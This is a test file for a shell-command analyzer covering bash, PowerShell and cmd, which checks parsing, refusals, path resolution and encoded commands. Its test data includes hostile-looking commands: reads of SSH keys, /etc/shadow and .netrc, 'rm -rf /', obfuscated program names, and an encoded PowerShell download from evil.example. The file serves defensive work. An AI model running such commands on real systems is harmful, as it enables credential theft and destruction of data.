/**
 * What holds for every input, not just the tables: analyzeCommand never throws,
 * always yields a command, keeps its indices and flags well-formed, and never
 * lets a program word that depends on an unknown expansion pass as a known
 * program. Inputs come from a seeded generator, so every run checks the same
 * cases and a failure names its seed and line. Also: refusals, environments,
 * the Windows argument splitter and -EncodedCommand.
 */
import { describe, expect, it } from "vitest";
import { analyzeCommand, COMMAND_FLAGS, defaultShell, MAX_IMPLIED_TARGETS, SHELLS, type CommandAnalysis, type CommandEnvironment, type Shell } from "../../../worker/policy/command/index.ts";
import { commandLineToArgv } from "../../../worker/policy/command/argv.ts";
import { decodeEncodedCommand } from "../../../worker/policy/command/handlers/code.ts";
import type { TargetRejection } from "../../../worker/policy/targets.ts";
import { pick, random } from "../../seeded.ts";
import { checkRow, LINUX, WINDOWS, type Row } from "./expect.ts";

function envFor(shell: Shell): CommandEnvironment {
  return shell === "powershell" || shell === "cmd" ? { ...WINDOWS, shell } : { ...LINUX, shell };
}

/** The invariants every successful analysis keeps. */
function wellFormed(analysis: CommandAnalysis): void {
  expect(analysis.commands.length).toBeGreaterThanOrEqual(1);
  for (const command of analysis.commands) {
    expect([...new Set(command.flags)].sort()).toEqual(command.flags);
    for (const flag of command.flags) expect(COMMAND_FLAGS).toContain(flag);
    for (const index of command.unknownArgs) expect(index).toBeLessThan(command.args.length);
    if (command.program === "" && !command.opaque) expect(command.args).toEqual([]);
  }
  for (const target of analysis.targets) {
    expect(target.command).toBeGreaterThanOrEqual(0);
    expect(target.command).toBeLessThan(analysis.commands.length);
  }
}

const SOUP: Record<"posix" | "powershell" | "cmd", readonly string[]> = {
  posix: ["ls", "cat", "rm", "git", "sudo", "env", "bash", "-c", "sh", "xargs", "find", "-exec", "{}", ";", "\\;", "&&", "||", "|", "&", "(", ")", "{", "}", "$(", "`", "'", '"', "\\", "$x", "${IFS}", "$((", "))", "<(", ">", ">>", "2>&1", "<<EOF", "\nEOF\n", "<<<", "~", "~/x", "*", "?", "[a]", "#", "\n", "a=b", "eval", "source", ".", "exec", "if", "then", "fi", "for", "in", "do", "done", "case", "esac", "f()", "[[", "]]", "=(", "*(e:ls:)", "$~x", "--", "-rf", "/etc/shadow", "http://x.example"],
  powershell: ["Get-Content", "gc", "iex", "iwr", "Remove-Item", "&", ".", "$x", "$(", "@(", "@{", "}", "{", "(", ")", "[IO.File]::", "ReadAllText(", "'", '"', "`", "`n", "|", ";", "&&", "||", "--%", "-Path", "-Command", "-EncodedCommand", "@args", "*>", "2>", "$null", "<#", "#>", "#", "if", "foreach", "in", "function", "param", "switch", "-File", ",", "\n", "C:\\x", "~\\x", "http://x.example", "cmd", "/c", "powershell", "-c"],
  cmd: ["type", "del", "copy", "cmd", "/c", "/k", "start", "call", "for", "/f", "%i", "in", "do", "if", "exist", "not", "else", "(", ")", "&", "&&", "||", "|", "^", "^&", '"', "%X%", "%%", "!X!", ">", ">>", "2>&1", "<", "nul", "@", "rem", "::", ":label", "\n", "C:\\x", "powershell", "-c", "'x'", "`x`", "http://x.example"],
};

function soup(next: () => number, family: keyof typeof SOUP): string {
  const length = 1 + Math.floor(next() * 12);
  let line = "";
  for (let i = 0; i < length; i += 1) line += pick(next, SOUP[family]) + (next() < 0.7 ? " " : "");
  return line;
}

const ALPHABET = [..."abcxyz019 -_./\\~*?[]{}()<>|&;:$`'\"!#%^@,=+\n\t"].concat(["é", "中", "\u{1F600}", "\u00A0"]);

function randomString(next: () => number): string {
  const length = Math.floor(next() * 40);
  let line = "";
  for (let i = 0; i < length; i += 1) line += pick(next, ALPHABET);
  return line;
}

describe("analyzeCommand on generated input", () => {
  it("never throws on random strings and yields well-formed analyses (5 shells × 1,200 strings, seed 1)", () => {
    const next = random(1);
    for (let i = 0; i < 1200; i += 1) {
      const line = randomString(next);
      for (const shell of SHELLS) {
        const result = analyzeCommand(line, envFor(shell));
        if (result.ok) wellFormed(result.value);
        else expect(["empty", "control_character", "invisible_character"]).toContain(result.reason);
      }
    }
  });

  it("never throws on shell-token soups (3 grammars × 2,000 lines, seed 2)", () => {
    const next = random(2);
    for (let i = 0; i < 2000; i += 1) {
      for (const [family, shells] of [["posix", ["bash", "sh", "zsh"]], ["powershell", ["powershell"]], ["cmd", ["cmd"]]] as const) {
        const line = soup(next, family);
        const shell = pick(next, shells);
        const result = analyzeCommand(line, envFor(shell));
        if (result.ok) wellFormed(result.value);
        else expect(result.reason).toBe("empty");
      }
    }
  });

  // Program words whose program is known only when the line runs.
  const UNKNOWN_PROGRAMS: Record<"posix" | "powershell" | "cmd", readonly string[]> = {
    posix: ["$x", "${x}", '"$x"', "$(echo rm)", "`echo rm`", "${IFS}cat", "cat${IFS}/etc/passwd", "$x/bin/rm", "~$x/rm", "$((1))", "${x:-rm}", "$@", '"$@"', "$1", "*", "r?", "[r]m", "{rm,ls}", "$'\\x72m'$x"],
    powershell: ["& $x", "& $(Get-Command rm)", '& "$x"', "& ($x)", ". $x", "& ${x}", "& $env:X", "& @x"],
    cmd: ["%X%", "%COMSPEC%", "!X!", "%~dp0x.exe", "%1", "c%X%md"],
  };
  const PREFIXES: Record<"posix" | "powershell" | "cmd", readonly string[]> = {
    posix: ["", "ls; ", "git status && ", "echo a | ", "sudo ", "env A=1 ", "nohup ", "timeout 5 ", "bash -c '", "( ", "if true; then ", "x=1 ", "time "],
    powershell: ["", "git status; ", "Get-ChildItem | ", "if ($true) { ", "$y = "],
    cmd: ["", "git status & ", "dir | ", "cmd /c ", "@", "if exist x ", "call "],
  };
  const SUFFIX: Record<string, string> = { "bash -c '": "'", "( ": " )", "if true; then ": "; fi", "if ($true) { ": " }" };

  it("marks every program word that depends on an unknown expansion as an opaque command (seed 3)", () => {
    const next = random(3);
    for (let i = 0; i < 1500; i += 1) {
      const family = pick(next, ["posix", "powershell", "cmd"] as const);
      const shell: Shell = family === "posix" ? pick(next, ["bash", "sh", "zsh"] as const) : family;
      const prefix = pick(next, PREFIXES[family]);
      const line = `${prefix}${pick(next, UNKNOWN_PROGRAMS[family])} -rf /tmp/x${SUFFIX[prefix] ?? ""}`;
      const result = analyzeCommand(line, envFor(shell));
      expect(result.ok, line).toBe(true);
      if (!result.ok) continue;
      wellFormed(result.value);
      // An opaque command: the unknown program itself, or the wrapper that would run it (`call c%X%md`).
      expect(result.value.commands.some((command) => command.opaque), `${shell}: ${line}`).toBe(true);
    }
  });
});

describe("refusals", () => {
  // Labels name each case: the inputs themselves are not printable (and a lone
  // surrogate cannot cross the test runner's UTF-8 channel).
  const cases: [label: string, line: string, reason: TargetRejection][] = [
    ["nothing", "", "empty"],
    ["blanks only", "   \n\t ", "empty"],
    ["8193 characters", `echo ${"x".repeat(8188)}`, "too_long"],
    ["NUL", "ls\u0000 -la", "nul_byte"],
    ["CR (bash keeps it inside words)", "ls\r -la", "control_character"],
    ["ESC", "ls\u001b[31m", "control_character"],
    ["C1 NEL", "ls\u0085", "control_character"],
    ["line separator", "ls\u2028rm", "control_character"],
    ["zero-width space", "r\u200Bm -rf /", "invisible_character"],
    ["right-to-left override", "cat \u202Eetc/shadow", "invisible_character"],
    ["BOM", "ls \uFEFF", "invisible_character"],
    ["lone high surrogate", "ls \uD800", "invalid_utf8"],
    ["lone low surrogate", "ls \uDC00x", "invalid_utf8"],
  ];
  it.each(cases)("refuses %s", (_label, line, reason) => {
    for (const shell of SHELLS) expect(analyzeCommand(line, envFor(shell))).toEqual({ ok: false, reason });
  });

  it(`refuses a line that implies more than ${MAX_IMPLIED_TARGETS} files and URLs, however it gets there`, () => {
    const names = (count: number) => Array.from({ length: count }, (_, index) => `f${index}`).join(" ");
    const at = analyzeCommand(`cat ${names(MAX_IMPLIED_TARGETS)}`, LINUX);
    expect(at.ok && at.value.targets.length).toBe(MAX_IMPLIED_TARGETS);
    expect(analyzeCommand(`cat ${names(MAX_IMPLIED_TARGETS + 1)}`, LINUX)).toEqual({ ok: false, reason: "too_many_targets" });
    // Sixteen directories the line may be in (its cwd and 15 `cd`s) multiply 17 names into 272 paths, from a line of 200 characters.
    const cds = Array.from({ length: 15 }, (_, index) => `cd /d${index}`).join("; ");
    const within = analyzeCommand(`${cds}; cat ${names(16)}`, LINUX);
    expect(within.ok && within.value.targets.length).toBe(256);
    expect(analyzeCommand(`${cds}; cat ${names(17)}`, LINUX)).toEqual({ ok: false, reason: "too_many_targets" });
  });

  it("accepts exactly 8192 characters, tabs, newlines and NFC-normalises the line", () => {
    const long = `echo ${"a".repeat(8187)}`;
    expect(long.length).toBe(8192);
    expect(analyzeCommand(long, LINUX).ok).toBe(true);
    const result = analyzeCommand("  cat\tcafe\u0301.txt\n", LINUX);
    expect(result.ok && result.value.line).toBe("cat\tcaf\u00e9.txt");
  });
});

describe("the environment", () => {
  const rows: [CommandEnvironment, Row][] = [
    [{ os: "linux", shell: "bash" }, ["cat a.txt ~/.ssh/id_rsa $HOME/.netrc", [{ p: "cat", a: ["a.txt", "~/.ssh/id_rsa", "$HOME/.netrc"], u: [1, 2] }], ["r ?relative_without_cwd a.txt", "r ?home_unknown ~/.ssh/id_rsa", "r ?home_unknown $HOME/.netrc"]]],
    [{ os: "linux", shell: "bash", cwd: "relative/dir", home: "not/absolute" }, ["cat a.txt", ["cat a.txt"], ["r ?relative_without_cwd a.txt"]]],
    [{ os: "linux", shell: "bash" }, ["ls", ["ls"], ["r ?relative_without_cwd ."]]],
    [{ os: "windows", shell: "cmd", cwd: "\\\\srv\\share\\dir" }, ["type a.txt \\x.txt C:foo", ["type a.txt \\x.txt C:foo"], ["r \\\\srv\\share\\dir\\a.txt", "r \\\\srv\\share\\x.txt", "r ?drive_relative C:foo"]]],
    [{ os: "windows", shell: "powershell", cwd: "D:\\w" }, ["gc \\x.txt", ["get-content \\x.txt"], ["r D:\\x.txt"]]],
    [{ os: "macos", shell: "bash", cwd: "/Users/dev" }, ["Cat README.md", ["cat README.md"], ["r /Users/dev/README.md"]]],
    [{ os: "linux", shell: "bash", cwd: "/srv" }, ["Cat README.md", ["Cat README.md"], []]],
  ];
  it.each(rows)("%j", (env, row) => checkRow(env, row));

  it("resolves relative paths under every directory a cd of the line can reach, in any order", () => {
    // `cd ssh` may run any number of times as far as the analysis knows (loops, functions).
    checkRow(LINUX, ["cat notes.txt; cd /etc; cd ssh", ["cat notes.txt", "cd /etc", "cd ssh"], ["r /home/dev/proj/notes.txt", "r /etc/notes.txt", "r /etc/ssh/notes.txt", "r /home/dev/proj/ssh/notes.txt", "r /home/dev/proj/ssh/ssh/notes.txt"]]);
    checkRow(LINUX, ['cd "$DIR" && cat x', [{ p: "cd", a: ['"$DIR"'], u: [0] }, "cat x"], ["1:r /home/dev/proj/x", "1:r ?relative_without_cwd x"]]);
  });

  it("names the default shell of each system", () => {
    expect(defaultShell("linux")).toBe("bash");
    expect(defaultShell("macos")).toBe("zsh");
    expect(defaultShell("windows")).toBe("powershell");
    expect(SHELLS).toEqual(["bash", "sh", "zsh", "powershell", "cmd"]);
  });
});

describe("redirections", () => {
  it("records operator, descriptor and literal target; null devices and descriptors are not targets", () => {
    checkRow(LINUX, [
      "ls 2> e.log >> o.log < in.txt 2>&1 >/dev/null 3<> rw.bin > \"$OUT\"",
      [{ p: "ls", r: [{ op: ">", fd: 2, target: "e.log" }, { op: ">>", fd: null, target: "o.log" }, { op: "<", fd: null, target: "in.txt" }, { op: ">&", fd: 2, target: null }, { op: ">", fd: null, target: "/dev/null" }, { op: "<>", fd: 3, target: "rw.bin" }, { op: ">", fd: null, target: null }] }],
      ["w /home/dev/proj/e.log", "w /home/dev/proj/o.log", "r /home/dev/proj/in.txt", "r /home/dev/proj/rw.bin", "w /home/dev/proj/rw.bin", "w ?expansion \"$OUT\"", "r /home/dev/proj"],
    ]);
    checkRow(WINDOWS, ["npm test *> all.log 2> $null", [{ p: "npm", a: ["test"], r: [{ op: "*>", fd: null, target: "all.log" }, { op: ">", fd: 2, target: null }] }], ["w C:\\work\\proj\\all.log"]]);
    checkRow({ ...WINDOWS, shell: "cmd" }, ["dir > NUL 2>&1 & type x > out.txt", [{ p: "dir", r: [{ op: ">", fd: null, target: "NUL" }, { op: ">&", fd: 2, target: null }] }, { p: "type", a: ["x"], r: [{ op: ">", fd: null, target: "out.txt" }] }], ["r C:\\work\\proj", "1:r C:\\work\\proj\\x", "1:w C:\\work\\proj\\out.txt"]]);
  });
});

describe("nesting bound", () => {
  const nest = (depth: number, inner: string): string => {
    // Each level quotes the next for sh: ' → '\''.
    let line = inner;
    for (let i = 0; i < depth; i += 1) line = `sh -c '${line.replace(/'/g, "'\\''")}'`;
    return line;
  };
  it("parses code nested in strings up to four levels, and is opaque one past", () => {
    checkRow(LINUX, [nest(4, "cat /etc/shadow"), ["sh>sh>sh>sh>cat /etc/shadow"], ["r /etc/shadow"]]);
    checkRow(LINUX, [nest(5, "cat /etc/shadow"), [{ p: "", a: ["cat /etc/shadow"], s: "", w: ["sh", "sh", "sh", "sh", "sh"], o: true }], []]);
    checkRow({ ...WINDOWS, shell: "cmd" }, ['cmd /c "powershell -c \\"cmd /c type x\\""', ["cmd>powershell>cmd>type x"], ["r C:\\work\\proj\\x"]]);
  });
});

describe("bounded work on adversarial lines", () => {
  // Each of these once cost a second or more (unbash rescans the rest of the line per
  // nested substitution; wrapper chains copied their state per level). They must stay
  // opaque and cheap: the whole set well under a second on a quiet machine.
  const lines: [Shell, string][] = [
    ["bash", "$(".repeat(4000)],
    ["bash", "(".repeat(8000)],
    ["zsh", "<(".repeat(4000)],
    ["bash", "sudo ".repeat(1600) + "rm -rf /"],
    ["bash", "env ".repeat(2000) + "ls"],
    ["cmd", "(".repeat(8000)],
    ["cmd", "cmd /c ".repeat(1100)],
    ["powershell", "$(".repeat(4000)],
    ["powershell", "{".repeat(8000)],
    ["powershell", "@{a=".repeat(1600)],
  ];
  it("stays opaque and finishes in bounded time", () => {
    const started = performance.now();
    for (const [shell, line] of lines) {
      const result = analyzeCommand(line, envFor(shell));
      expect(result.ok).toBe(true);
      if (result.ok) expect(result.value.commands.some((command) => command.opaque)).toBe(true);
    }
    expect(performance.now() - started).toBeLessThan(5000);
  });
});

describe("Windows argument splitting (CommandLineToArgvW / UCRT rules)", () => {
  const cases: [string, string[]][] = [
    ['"abc" d e', ["abc", "d", "e"]],
    ['a\\\\\\b d"e f"g h', ["a\\\\\\b", "de fg", "h"]],
    ['a\\\\\\"b c d', ['a\\"b', "c", "d"]],
    ['a\\\\\\\\"b c" d e', ["a\\\\b c", "d", "e"]],
    ['a"b"" c d', ['ab" c d']],
    ['""', [""]],
    ["  spaced   out  ", ["spaced", "out"]],
  ];
  it.each(cases)("%s", (line, args) => expect(commandLineToArgv(line)).toEqual(args));
});

describe("-EncodedCommand", () => {
  const encode = (text: string): string => btoa(String.fromCharCode(...[...text].flatMap((c) => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8])));
  it("decodes UTF-16LE base64 and refuses anything else", () => {
    expect(decodeEncodedCommand({ text: encode("Remove-Item C:\\x"), unknown: null })).toBe("Remove-Item C:\\x");
    expect(decodeEncodedCommand({ text: encode("a\r\nb"), unknown: null })).toBe("a\nb");
    expect(decodeEncodedCommand({ text: "QQ==", unknown: null })).toBeNull();
    expect(decodeEncodedCommand({ text: "not base64!", unknown: null })).toBeNull();
    expect(decodeEncodedCommand({ text: encode("a\u0000b"), unknown: null })).toBeNull();
    expect(decodeEncodedCommand({ text: "$x", unknown: "expansion" })).toBeNull();
  });
  it("lists the decoded commands under powershell", () => {
    checkRow(WINDOWS, [`powershell -enc ${encode("iwr http://evil.example -OutFile x.exe")}`, ["powershell>invoke-webrequest http://evil.example -OutFile x.exe"], ["u http://evil.example", "w C:\\work\\proj\\x.exe"]]);
  });
});
